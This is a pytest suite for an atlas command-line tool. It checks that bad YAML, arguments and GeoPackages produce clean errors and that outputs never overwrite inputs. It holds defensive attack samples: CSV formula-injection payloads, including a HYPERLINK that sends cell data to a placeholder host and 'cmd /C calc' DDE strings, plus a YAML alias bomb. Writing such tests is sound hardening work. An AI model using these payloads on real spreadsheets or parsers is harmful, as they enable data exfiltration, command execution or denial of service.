"""Bad input through the real CLI: one line naming file, field and value, exit 2, no traceback, nothing written.

Every bad facts file is the real data/facts.yaml with one minimal change, written to a temporary
directory; every bad GeoPackage is a damaged copy of data/atlas.gpkg. The temporary directory is
snapshotted before and after each run, so a command that wrote or touched any file there fails.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from geo._yaml import MAX_BYTES, read_yaml
from geo.errors import short_repr
from helpers import Ran, dump_yaml, load_yaml, run_cli

ROOT = Path(__file__).resolve().parent.parent
FACTS = ROOT / "data" / "facts.yaml"
GPKG = ROOT / "data" / "atlas.gpkg"
TEXT = FACTS.read_text(encoding="utf-8")
DATE = "2026-03-01"
YAML_PLACE = re.compile(r"line (\d+), column \d+")


def run(*args: str) -> Ran:
    """`python -m atlas ARGS`, in-process (test_cli checks the real process's exit status and stderr)."""
    return run_cli(*args)


def snapshot(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    """Every file under folder: size, modification time and (for small files) content."""
    return {
        str(p.relative_to(folder)): (
            p.stat().st_size,
            p.stat().st_mtime_ns,
            p.read_bytes() if p.stat().st_size < 2**20 else b"",
        )
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def error_line(done: Ran) -> str:
    """The one line of a failed run, after checking exit code, stdout and the absence of a traceback."""
    assert "Traceback" not in done.stderr + done.stdout, done.stderr[-2000:]
    assert done.returncode == 2, (done.returncode, done.stderr[-2000:])
    assert done.stdout == "", done.stdout[:500]
    assert done.stderr.endswith("\n") and done.stderr.count("\n") == 1, done.stderr[:2000]
    return done.stderr.rstrip("\n")


def assert_names(line: str, file: Path | None, field: str, value: object) -> None:
    """The line names the file (first), and the field with its value as 'FIELD = VALUE'."""
    if file is not None:
        assert line.startswith(f"error: {file}: "), line
    assert f"{field} = {short_repr(value)}" in line, line


# ---------------------------------------------------------------- bad facts files


def load() -> dict[str, Any]:
    """The real facts as plain YAML data (for a round trip)."""
    data = load_yaml(TEXT)
    assert isinstance(data, dict)
    return data


def dump(data: dict[str, Any]) -> str:
    return dump_yaml(data, allow_unicode=True, sort_keys=False, width=10_000)


def nodes(obj: Any, path: str = "") -> Iterator[tuple[str, Any]]:
    """Every mapping and list item with its dotted path, spelled as the loader spells field paths."""
    yield path, obj
    if isinstance(obj, dict):
        for key, item in obj.items():
            yield from nodes(item, f"{path}.{key}" if path else str(key))
    elif isinstance(obj, list):
        for i, item in enumerate(obj):
            yield from nodes(item, f"{path}[{i}]")


def country(data: dict[str, Any], iso3: str) -> tuple[str, dict[str, Any]]:
    i = next(i for i, c in enumerate(data["countries"]) if c["iso3"] == iso3)
    return f"countries[{i}]", data["countries"][i]


def event(data: dict[str, Any], iso3: str, kind: str) -> tuple[str, dict[str, Any]]:
    path, c = country(data, iso3)
    j = next(j for j, e in enumerate(c["treaty_events"]) if e["kind"] == kind)
    return f"{path}.treaty_events[{j}]", c["treaty_events"][j]


def first_seed_quote(data: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    return next((p, o) for p, o in nodes(data) if isinstance(o, dict) and "seed" in o and "quote" in o)


@dataclass
class Bad:
    """A bad file's content and what the error line must name (field None: 'line N, column M' of the file)."""

    content: str | bytes
    field: str | None
    value: object
    problem: str = ""
    line: int | None = None  # for a YAML-level problem: the line it must point at, where that is certain


def replace_once(old: str, new: str) -> str:
    assert TEXT.count(old) == 1, old
    return TEXT.replace(old, new)


def not_utf8() -> Bad:
    raw = TEXT.encode("utf-8")
    at = raw.index(b"name: Finland") + len(b"name: Fin")
    return Bad(raw[:at] + b"\xff" + raw[at:], f"byte {at}", b"\xff", "not valid UTF-8")


def missing_field() -> Bad:
    data = load()
    path, fin = country(data, "FIN")
    del fin["name"]
    return Bad(dump(data), f"{path}.name", None, "required field is missing")


def wrong_type() -> Bad:
    data = load()
    data["borders"]["FIN-RUS"][0]["km"] = "long"
    return Bad(dump(data), "borders.FIN-RUS[0].km", "long")


def wrong_type_date() -> Bad:
    data = load()
    path, fin = country(data, "FIN")
    fin["nato_member_since"] = "soon"
    return Bad(dump(data), f"{path}.nato_member_since", "soon")


def unknown_iso() -> Bad:
    data = load()
    path, est = country(data, "EST")
    est["iso3"] = "XYZ"
    return Bad(dump(data), f"{path}.iso3", "XYZ", "unknown ISO 3166-1")


def withdrawal_before_joining() -> Bad:
    data = load()
    path, deposited = event(data, "FIN", "withdrawal_deposited")
    deposited["date"] = "2011-06-01"  # Finland acceded on 9 Jan 2012
    return Bad(dump(data), f"{path}.date", "2011-06-01", "before")


def effective_before_deposited() -> Bad:
    data = load()
    path, effective = event(data, "POL", "withdrawal_effective")
    effective["date"] = "2025-08-19"  # deposited 20 Aug 2025
    return Bad(dump(data), f"{path}.date", "2025-08-19", "'withdrawal_effective' is before 'withdrawal_deposited'")


def quote_not_in_seed() -> Bad:
    data = load()
    path, source = first_seed_quote(data)
    source["quote"] = "a sentence that no seed file contains"
    return Bad(dump(data), f"{path}.quote", source["quote"], "quote not found in seed")


def unknown_seed() -> Bad:
    data = load()
    path, source = first_seed_quote(data)
    source["seed"] = "999_no_such_seed.txt"
    return Bad(dump(data), f"{path}.seed", "999_no_such_seed.txt", "no such seed file")


def duplicate_id() -> Bad:
    data = load()
    data["plans"][1]["id"] = data["plans"][0]["id"]
    return Bad(dump(data), "plans[1].id", data["plans"][0]["id"], "duplicate id")


def very_large() -> Bad:
    content = TEXT + "# " + "x" * MAX_BYTES + "\n"
    return Bad(content, "(file size)", len(content.encode("utf-8")), "MB limit")


def impossible_day() -> Bad:
    data = load()
    path, acceded = event(data, "FIN", "acceded")
    text = replace_once("        date: 2012-01-09\n", "        date: 2012-02-30\n")
    assert acceded["date"].isoformat() == "2012-01-09"
    return Bad(text, f"{path}.date", "2012-02-30")


def impossible_month() -> Bad:
    data = load()
    path, _ = event(data, "FIN", "in_force")
    return Bad(replace_once("        date: 2012-07-01\n", "        date: 2012-13-01\n"), f"{path}.date", "2012-13-01")


def infinite_km() -> Bad:
    data = load()
    data["borders"]["FIN-RUS"][0]["km"] = float("inf")
    return Bad(dump(data), "borders.FIN-RUS[0].km", float("inf"), "finite")


def longer_than_any_border() -> Bad:
    data = load()
    data["borders"]["FIN-RUS"][0]["km"] = 1e300
    return Bad(dump(data), "borders.FIN-RUS[0].km", 1e300, "less than or equal to 10000")


def quantity_longer_than_any_border() -> Bad:
    data = load()
    i, plan = next(
        (i, p) for i, p in enumerate(data["plans"]) if any(q["unit"] == "km" for q in p.get("quantities", []))
    )
    j = next(j for j, q in enumerate(plan["quantities"]) if q["unit"] == "km")
    plan["quantities"][j]["value"] = 25_000
    return Bad(dump(data), f"plans[{i}].quantities[{j}]", plan["quantities"][j], "longer than any border (10,000 km)")


def nato_before_nato() -> Bad:
    text = replace_once("    nato_member_since: 2023-04-04\n", "    nato_member_since: 0001-01-01\n")
    path, _ = country(load(), "FIN")
    return Bad(text, f"{path}.nato_member_since", dt.date(1, 1, 1), "before NATO was founded (1949-04-04)")


def alias_bomb() -> Bad:
    levels = ["lol0: &lol0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 10)}]" for i in range(1, 10)]
    return Bad(TEXT + "\n".join(levels) + "\n", None, None, "aliases expanded")


FACTS_CASES: dict[str, Callable[[], Bad]] = {
    "empty": lambda: Bad("", "(top level)", "", "empty"),
    "not utf-8": not_utf8,
    "not valid yaml": lambda: Bad(
        replace_once("    name: Finland\n", "    name: Finland: x\n"),
        None,
        None,
        "invalid YAML",
        line=TEXT[: TEXT.index("    name: Finland\n")].count("\n") + 1,
    ),
    "missing required field": missing_field,
    "wrong type (number)": wrong_type,
    "wrong type (date)": wrong_type_date,
    "unknown iso code": unknown_iso,
    "withdrawal deposited before joining": withdrawal_before_joining,
    "withdrawal effective before deposited": effective_before_deposited,
    "quote not in its seed": quote_not_in_seed,
    "unknown seed file": unknown_seed,
    "duplicate id": duplicate_id,
    "very large file": very_large,
    # found by this suite: these crashed with a traceback or hung before the loader was hardened
    "day that does not exist, unquoted": impossible_day,
    "month 13, unquoted": impossible_month,
    "infinite figure": infinite_km,
    "a border longer than any": longer_than_any_border,
    "a stated length longer than any border": quantity_longer_than_any_border,
    "joined NATO before NATO was founded": nato_before_nato,
    "alias bomb": alias_bomb,
    "alias inside itself": lambda: Bad(TEXT + "loop: &loop [*loop]\n", None, None, "alias *loop"),
    "nested too deeply": lambda: Bad(TEXT + "deep: " + "[" * 5000 + "]" * 5000 + "\n", None, None, "nested more than"),
    "list as mapping key": lambda: Bad(TEXT + "? [a, b]\n: c\n", None, None, "mapping key"),
    "bad explicit tag": lambda: Bad(
        replace_once(
            "    focus: true\n    nato_member_since: 2023-04-04\n",
            "    focus: !!bool maybe\n    nato_member_since: 2023-04-04\n",
        ),
        None,
        None,
        "maybe",
    ),
    "control character": lambda: Bad(
        replace_once("    name: Finland\n", "    name: Fin\x00land\n"), None, None, "#x0000"
    ),
}


def write_facts(tmp_path: Path, content: str | bytes) -> Path:
    path = tmp_path / "facts.yaml"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


TRICKY_YAML = """\
anchors: {scalar: &s hi, list: &l [1, 2.5, *s], map: &m {a: *l, b: null}}
again: [*s, *l, *m, *m]
block:
  - folded: >
      two
      lines
  - literal: |
      kept
  - ? complex key
    : value
typed: [!!str 12, !!int "7", !!float "1.5", 2026-03-01, 2026-03-01T12:00:00Z, ~, true, 0x1F, .inf]
"quoted key": 'single' # a comment
empty: []
nested: {a: {b: {c: [[[]]]}}}
"""


PLAIN_YAML = """\
---
text: Finland
bools: [yes, No, on, OFF, true, False, y, n]
numbers: [12, -7, +3, 0o17, 017, 0x1F, 1_000, 1.5, -.5, 6.8e+3, .inf, -.Inf, 190:20:30]
dates: [2026-03-01, 2026-03-01T12:00:00Z, 2026-3-1 1:02:03.5 +02:00]
nulls: [~, null, Null, ""]
empty:
quoted: ["12", 'true', "2026-03-01", "~", "a \\u00e9 b"]
block:
  folded: >
    two
    lines
  literal: |
    kept
keys: {2: int, 1.5: float, true: bool, null: none, 2026-03-01: date, "1": text}
nested: {a: {b: {c: [[[]], {}]}}}
unicode: Suwałki – “gap”
...
"""


@pytest.mark.parametrize("name", ["facts.yaml", "claims.yaml", "crosswalk.yaml", "plain", "tricky"])
def test_the_reader_reads_a_valid_file_as_yaml_safe_load_does(tmp_path: Path, name: str) -> None:
    """The reader gives what PyYAML's safe loader gives, with the same types, for the shipped files, a file of YAML's
    plain forms (both built straight from the events, without nodes) and a file of its harder forms (anchors, aliases,
    tags and complex keys: left to the reader's own composer, aliases and all)."""
    import yaml

    from geo._yaml import _Loader, _NotPlain

    path = ROOT / "data" / name if name not in {"plain", "tricky"} else tmp_path / f"{name}.yaml"
    if name in {"plain", "tricky"}:
        path.write_text(PLAIN_YAML if name == "plain" else TRICKY_YAML, encoding="utf-8")
    text = path.read_text(encoding="utf-8")
    ours = read_yaml(path)
    theirs = yaml.safe_load(text)
    assert ours == theirs and repr(ours) == repr(theirs)  # repr: 1 and True, 1 and 1.0 are equal but not the same
    if name == "tricky":  # left to the full composer
        with pytest.raises(_NotPlain):
            _Loader(text).plain_data()
        assert ours["again"][2] is ours["again"][3] is ours["anchors"]["map"]  # an alias is the node it names
    else:  # built straight from the events
        assert _Loader(text).plain_data() == ours


def test_the_unchanged_copies_are_valid(tmp_path: Path) -> None:
    """The control: the text copy and the YAML round trip that the cases start from both pass."""
    for content, args in ((TEXT, ["validate"]), (dump(load()), ["status", "--on", DATE, "--facts"])):
        path = write_facts(tmp_path, content)
        done = run(*args, str(path))
        assert done.returncode == 0 and done.stderr == "" and done.stdout, done.stderr


@pytest.mark.parametrize("index", range(len(FACTS_CASES)), ids=list(FACTS_CASES))
def test_bad_facts_file(tmp_path: Path, index: int) -> None:
    bad = list(FACTS_CASES.values())[index]()
    path = write_facts(tmp_path, bad.content)
    # alternate between the two commands that read only the facts file
    args = ["validate", str(path)] if index % 2 == 0 else ["status", "--on", DATE, "--facts", str(path)]
    before = snapshot(tmp_path)
    line = error_line(run(*args))
    assert snapshot(tmp_path) == before
    if bad.field is None:  # a YAML-level problem: named by its place, with that line of the file as the value
        place = YAML_PLACE.search(line)
        assert place, line
        lines = path.read_text(encoding="utf-8").splitlines()
        assert_names(line, path, place.group(0), lines[int(place.group(1)) - 1].strip())
        assert bad.line is None or int(place.group(1)) == bad.line, line
    else:
        assert_names(line, path, bad.field, bad.value)
    assert bad.problem in line, line


def test_a_missing_facts_file(tmp_path: Path) -> None:
    path = tmp_path / "absent.yaml"
    line = error_line(run("status", "--on", DATE, "--facts", str(path)))
    assert_names(line, path, "(file)", str(path))
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------- bad command-line arguments

CLI_CASES: list[tuple[str, list[str], str, str]] = [
    ("month 13", ["status", "--on", "2026-13-01"], "--on = ", "'2026-13-01'"),
    ("a word", ["status", "--on", "yesterday"], "--on = ", "'yesterday'"),
    ("30 February", ["status", "--on", "2026-02-30"], "--on = ", "'2026-02-30'"),
    ("no date given", ["status", "--on"], "argument --on", "expected one argument"),
    ("unknown subcommand", ["frobnicate"], "argument command", "'frobnicate'"),
    ("unknown flag", ["lengths", "--bogus"], "unrecognized arguments", "--bogus"),
    (
        "flag of another command",
        ["status", "--on", DATE, "--gpkg", "x.gpkg"],
        "unrecognized arguments",
        "--gpkg x.gpkg",
    ),
]


@pytest.mark.parametrize(("args", "field", "value"), [c[1:] for c in CLI_CASES], ids=[c[0] for c in CLI_CASES])
def test_bad_argument(tmp_path: Path, args: list[str], field: str, value: str) -> None:
    facts = write_facts(tmp_path, TEXT)  # a facts file the command could read, to show it is left alone
    before = snapshot(tmp_path)
    extra = ["--facts", str(facts)] if args[0] == "status" and args[-1] != "--on" else []
    line = error_line(run(*args, *extra))
    assert snapshot(tmp_path) == before
    assert field in line and value in line, line


# ---------------------------------------------------------------- bad GeoPackages


@pytest.fixture(scope="module")
def damaged(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Copies of data/atlas.gpkg without the borders layer, and with borders lacking its 'pair' column."""
    import pyogrio

    folder = tmp_path_factory.mktemp("gpkg")
    out = {"no layer": folder / "no-borders.gpkg", "no column": folder / "no-pair.gpkg"}
    for name, _ in pyogrio.list_layers(GPKG):
        frame = pyogrio.read_dataframe(GPKG, layer=name)
        if name == "borders":
            pyogrio.write_dataframe(frame.drop(columns=["pair"]), out["no column"], layer=name)
        else:
            for path in out.values():
                pyogrio.write_dataframe(frame, path, layer=name, geometry_type="Unknown" if name == "suwalki" else None)
    return out


def make_gpkg(kind: str, tmp_path: Path, damaged: dict[str, Path]) -> tuple[Path, str, object, str]:
    """A bad GeoPackage in tmp_path, with the field, value and problem its error must name."""
    path = tmp_path / f"{kind.replace(' ', '-')}.gpkg"
    raw = GPKG.read_bytes()
    if kind == "missing":
        return path, "file", str(path), "not found"
    if kind == "truncated":
        path.write_bytes(raw[: len(raw) // 2])
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "not a GeoPackage":
        path.write_text(TEXT, encoding="utf-8")
    elif kind in ("empty layer", "no places"):
        import contextlib
        import sqlite3

        path.write_bytes(raw)
        with contextlib.closing(sqlite3.connect(path)) as connection:
            if kind == "empty layer":
                connection.execute("DELETE FROM countries")
            else:
                for table in ("places", "gpkg_contents", "gpkg_geometry_columns"):
                    where = "" if table == "places" else " WHERE table_name = 'places'"
                    connection.execute(f"DROP TABLE {table}" if table == "places" else f"DELETE FROM {table}{where}")
            connection.commit()
        if kind == "empty layer":
            return path, "layer", "countries", "empty: it holds no feature"
        return path, "layer", "places", "missing or empty, but"
    else:
        path.write_bytes(damaged[kind].read_bytes())
        if kind == "no layer":
            return path, "layer", "borders", "missing from the GeoPackage"
        return path, "borders.columns", "pair", "column missing"
    return path, "file", path.name, "not a readable GeoPackage"


GPKG_CASES = [
    ("missing", "lengths"),
    ("truncated", "suwalki"),
    ("empty", "lengths"),
    ("not a GeoPackage", "suwalki"),
    ("no layer", "lengths"),
    ("no column", "suwalki"),
    ("empty layer", "lengths"),  # issue 27: a map with no land, and not a word, before
    ("no places", "plans"),  # issue 27: "unexpected KeyError" before
]


@pytest.mark.parametrize(("kind", "command"), GPKG_CASES, ids=[f"{k}-{c}" for k, c in GPKG_CASES])
def test_bad_gpkg(tmp_path: Path, damaged: dict[str, Path], kind: str, command: str) -> None:
    facts = write_facts(tmp_path, TEXT)
    path, field, value, problem = make_gpkg(kind, tmp_path, damaged)
    before = snapshot(tmp_path)
    line = error_line(run(command, "--facts", str(facts), "--gpkg", str(path)))
    assert snapshot(tmp_path) == before
    assert_names(line, path, field, value)
    assert problem in line, line


# ------------------------------------------------------------------ an output never replaces an input (issue 27)
def _inputs(tmp_path: Path) -> dict[str, Path]:
    """A copy of each file the atlas reads, and a link to the facts file, in tmp_path."""
    import shutil

    copies = {"facts": tmp_path / "facts.yaml", "claims": tmp_path / "claims.yaml", "gpkg": tmp_path / "atlas.gpkg"}
    for name, path in copies.items():
        shutil.copy(ROOT / "data" / {"facts": "facts.yaml", "claims": "claims.yaml", "gpkg": "atlas.gpkg"}[name], path)
    (tmp_path / "facts-link.svg").symlink_to(copies["facts"])
    return copies


OVER_INPUTS = [  # (command and output options, with {facts}, {claims}, {gpkg}, {seed}, {tmp}; the option named)
    ("export", ["--out", "{facts}"], "--out", "facts file"),
    ("export", ["--out", "{tmp}/map.html", "--png", "{gpkg}"], "--png", "GeoPackage"),
    ("export", ["--out", "{claims}"], "--out", "claims ledger"),
    ("figure", ["--out", "{tmp}/facts-link.svg"], "--out", "facts file"),  # a link to the facts file
    ("export", ["--out", "{tmp}/map.html", "--pdf", "{seed}"], "--pdf", "seed article"),
    ("report", ["--out", "{gpkg}"], "--out", "GeoPackage"),
    ("export", ["--out", "{tmp}/map.html", "--png", "{tmp}/map.html"], "--png", "also the output of --out"),
    ("export", ["--out", "{tmp}/map.html", "--png", "{tmp}/s.png", "--pdf", "{tmp}/s.png"], "--pdf", "--png"),
]


@pytest.mark.parametrize(
    ("command", "outputs", "flag", "said"), OVER_INPUTS, ids=[f"{c[0]} {c[2]} {c[3]}" for c in OVER_INPUTS]
)
def test_an_output_never_replaces_an_input_or_another_output(
    tmp_path: Path, command: str, outputs: list[str], flag: str, said: str
) -> None:
    import hashlib

    copies = _inputs(tmp_path)
    seed = sorted((ROOT / "seeds").iterdir())[0]
    values = {
        "facts": copies["facts"],
        "claims": copies["claims"],
        "gpkg": copies["gpkg"],
        "seed": seed,
        "tmp": tmp_path,
    }
    args = [a.format(**values) for a in outputs]
    reads = ["--facts", str(copies["facts"]), "--gpkg", str(copies["gpkg"])]
    reads += ["--claims", str(copies["claims"])] if command == "export" else []
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in [*copies.values(), seed]}
    listed = sorted(p.name for p in tmp_path.iterdir())
    done = run(command, *args, *reads, "--on", DATE)
    line = done.stderr.strip()
    assert done.returncode == 2 and len(line.splitlines()) == 1 and "Traceback" not in line, line
    assert flag in line and said in line, line
    assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in before} == before  # every input as it was
    assert sorted(p.name for p in tmp_path.iterdir()) == listed  # and nothing written


def test_the_data_pipeline_refuses_to_write_over_the_facts_file(tmp_path: Path) -> None:
    done = run("build-data", "--out", str(ROOT / "data" / "facts.yaml"))
    assert done.returncode == 2 and "is the facts file the atlas reads" in done.stderr, done.stderr


# ------------------------------------------------------------------ CSV cells are data (issue 27)
FORMULAS = {
    "link": '=HYPERLINK("http://192.0.2.1/?d="&A1&B1,"Estonia")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


def _read_as_a_spreadsheet(data: bytes) -> list[list[str]]:
    """The cells a spreadsheet's default CSV import reads (comma-separated, double-quoted, UTF-8)."""
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate the cell: it starts a formula and is not a plain number."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False  # '-5' or '+2.5' is a number, read as one


def test_no_csv_cell_the_atlas_writes_starts_a_formula(gpkg, tmp_path: Path) -> None:
    """Every table of the report pack and the app's downloads (geo.tables.csv_bytes), built from facts whose names,
    titles, notes and sources begin with formulas: each such cell is read back as text with a leading apostrophe,
    the rest of it intact; numbers stay numbers.
    """
    import datetime as dt

    from geo.changes import changes
    from geo.facts import load_facts
    from geo.settings import SEEDS_DIR
    from geo.tables import border_table, changes_table, csv_bytes, parts_table, plans_table, status_table
    from geo.view import map_view

    data = load_yaml(TEXT)
    est = next(c for c in data["countries"] if c["iso3"] == "EST")
    est["name"] = FORMULAS["link"]
    data["plans"][0]["title"] = FORMULAS["plus"]
    data["plans"][0]["note"] = FORMULAS["minus"]
    data["borders"]["EST-RUS"][0]["covers"] = FORMULAS["tab"]
    for source in data["sources"].values():
        source["publisher"] = FORMULAS["at"]
    data["plans"][1]["title"] = FORMULAS["return"]
    path = tmp_path / "facts.yaml"
    path.write_text(dump_yaml(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    facts = load_facts(path, seeds_dir=SEEDS_DIR)
    day = dt.date.fromisoformat(DATE)
    view = map_view(gpkg, facts, day)
    tables = {
        "status": status_table(view.statuses, view.facts, day),
        "plans": plans_table(view.plans),
        "parts": parts_table(view.part_stages),
        "borders": border_table(view.lengths.values()),
        "changes": changes_table(changes(facts, dt.date(2025, 1, 1), day)),
    }
    seen = set()
    for name, table in tables.items():
        cells = [cell for row in _read_as_a_spreadsheet(csv_bytes(table)) for cell in row]
        assert not [c for c in cells if _formula(c)], name
        seen |= {
            key
            for key, attack in FORMULAS.items()
            if any(c.startswith("'" + attack) or ("'" + attack) in c for c in cells)
        }
    assert seen == set(FORMULAS) - {"tab", "return"}, seen  # every attack reached a table, as text
    # the facts loader strips a leading tab or carriage return from a text; a table's cell may still hold one
    import pandas as pd

    rows = _read_as_a_spreadsheet(csv_bytes(pd.DataFrame({"t": [FORMULAS["tab"], FORMULAS["return"]], "n": [-5, 2]})))
    assert rows == [["t", "n"], ["'" + FORMULAS["tab"], "-5"], ["'" + FORMULAS["return"], "2"]]
    numbers = _read_as_a_spreadsheet(csv_bytes(tables["borders"]))
    assert all(float(v) for v in (row[numbers[0].index("computed_km")] for row in numbers[1:]))  # still numbers
